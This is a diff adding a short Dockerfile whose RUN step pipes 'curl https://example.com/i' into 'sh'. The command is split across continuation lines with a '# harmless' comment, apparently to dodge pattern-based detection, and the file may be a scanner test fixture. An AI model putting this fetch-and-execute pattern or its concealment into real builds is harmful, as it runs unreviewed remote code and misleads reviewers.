@@ -1,0 +1,6 @@
+FROM debian:bookworm-slim
+RUN curl https://example.com/i \
+  # harmless
+
+  | \
+  sh
